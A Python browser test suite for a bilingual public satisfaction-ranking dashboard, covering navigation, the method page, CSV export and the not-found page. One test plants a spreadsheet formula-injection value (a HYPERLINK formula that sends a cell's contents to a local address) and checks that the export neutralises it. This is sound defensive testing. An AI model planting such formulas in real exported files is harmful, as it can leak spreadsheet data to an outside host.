"""A citizen's way on the public server: the ranking, who is in it, how it is made."""

import csv
import io
import shutil
from pathlib import Path

import duckdb
import pytest

from dashboard import session
from tests.browser.conftest import MeetReader
from tests.browser.reader import DESK, PHONE, Size
from tests.dashboard import published
from tests.serving import Server, served

BOTH = pytest.mark.parametrize("language", ["zh", "en"])
EITHER = pytest.mark.parametrize(
    ("language", "size"), [("en", DESK), ("zh", PHONE)], ids=["en-desk", "zh-phone"]
)

WORDS = {
    "zh": {
        "title": "群众满意度排行", "method": "怎么算的", "cities": "地市",
        "departments": "部门", "period": "时段", "spring": "2026 年二季度",
        "group": "比较范围", "one_group": "社会民生部门", "listed": "仅列示，不排名",
        "why": "评价不足 30 件", "vertical": "垂直管理部门，不参与本级排名",
        "withheld": "样本不足", "download": "下载数据", "name": "名称",
        "no_page": "没有这个页面",
    },
    "en": {
        "title": "Satisfaction ranking", "method": "Method", "cities": "Cities",
        "departments": "Departments", "period": "Period", "spring": "Q2 2026",
        "group": "Compared with", "one_group": "Social services",
        "listed": "Listed, not ranked", "why": "Fewer than 30 ratings",
        "vertical": "Answers to a higher level", "withheld": "Too few to show",
        "download": "Download the data", "name": "Name",
        "no_page": "There is no such page",
    },
}  # fmt: skip


@EITHER
def test_the_ranking_is_the_first_page_and_says_who_is_in_it(
    public: Server, meet: MeetReader, language: str, size: Size
) -> None:
    said = WORDS[language]
    reader = meet(public, language, size).go()
    reader.take_picture("journey-ranking")
    # Five megabytes of script more, for an old telephone on a slow line.
    assert not [name for name in reader.fetched() if "Plotly" in name]
    assert reader.headline() == said["title"]
    everything = reader.words()
    for word in ("listed", "why", "vertical", "withheld"):
        assert said[word] in everything, word

    reader.press(said["cities"])
    assert reader.said("kind") == "city"
    reader.press(said["departments"])
    before = reader.words()
    reader.choose(said["period"], said["spring"])
    assert reader.said("period") == "quarter:2026-04-01"
    assert reader.words() != before
    before = reader.words()
    reader.choose(said["group"], said["one_group"])
    assert reader.said("group")
    assert reader.words() != before
    # Until the browser has surely been told, "back" is not taken for a change of mind.
    reader.page.wait_for_timeout(1000 * session.ON_ITS_WAY)
    reader.go_back()
    assert not reader.said("group")
    assert reader.words() == before


@BOTH
def test_the_method_is_one_click_away(
    public: Server, meet_again: MeetReader, language: str
) -> None:
    said = WORDS[language]
    reader = meet_again(public, language).go()
    reader.turn_to(said["method"])
    assert (reader.path, reader.headline()) == ("method", said["method"])
    assert "Wilson" in reader.words()


@BOTH
def test_the_table_comes_down_as_a_file_a_spreadsheet_opens(
    public: Server, meet_again: MeetReader, language: str
) -> None:
    said = WORDS[language]
    file = meet_again(public, language).go(kind="city").download(said["download"])
    assert file.suggested_filename == "satisfaction-city-quarter-2026-07-01.csv"
    content = Path(file.path()).read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    assert said["name"] in header
    assert len(rows) == 15  # 13 prefectures and 2 cities managed by the province


def test_nothing_in_the_file_is_a_formula(
    tmp_path: Path, meet_again: MeetReader
) -> None:
    folder = published.publish(tmp_path)
    evil = '=HYPERLINK("http://127.0.0.1/"&A1)'
    with duckdb.connect(str(folder / "v1-public.duckdb")) as con:
        con.execute(
            "UPDATE subject SET name = MAP {'zh': $evil, 'en': $evil}"
            " WHERE subject_id = 'city:230200'",
            {"evil": evil},
        )
    with served(tmp_path, tmp_path / "server.log", "public") as server:
        file = meet_again(server).go(kind="city").download("Download the data")
        text = Path(file.path()).read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert f"'{evil}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_a_link_to_the_ranking_of_the_inner_server_works_here(
    public: Server, meet_again: MeetReader
) -> None:
    reader = meet_again(public).go("ranking", kind="city")
    assert (reader.path, reader.said("kind")) == ("", "city")
    assert reader.page.get_by_role("dialog").count() == 0


def test_the_public_server_needs_no_internal_file(
    public: Server, public_workspace: Path, tmp_path: Path, meet_again: MeetReader
) -> None:
    shutil.copytree(public_workspace, tmp_path / "copy")
    (internal,) = (tmp_path / "copy" / "published").glob("*-internal.duckdb")
    internal.unlink()
    shown = meet_again(public).go().words()
    with served(tmp_path / "copy", tmp_path / "server.log", "public") as server:
        assert meet_again(server).go().words() == shown


@EITHER
def test_an_address_without_a_page_says_so_in_the_language_and_leads_on(
    public: Server, meet_again: MeetReader, language: str, size: Size
) -> None:
    reader = meet_again(public, language, size).go("nowhere")
    assert reader.headline() == WORDS[language]["no_page"]
    # Streamlit's own box would say it in English.
    assert reader.page.get_by_role("dialog").count() == 0
    # Still so when the page is run again.
    other = {"zh": "en", "en": "zh"}[language]
    reader.press({"zh": "中", "en": "EN"}[other])
    assert (reader.path, reader.headline()) == ("nowhere", WORDS[other]["no_page"])
    reader.page.get_by_test_id("stMain").get_by_role("link").last.click()
    reader.page.wait_for_url(lambda address: "nowhere" not in address)
    reader.settle()
    assert reader.headline() == WORDS[other]["title"]
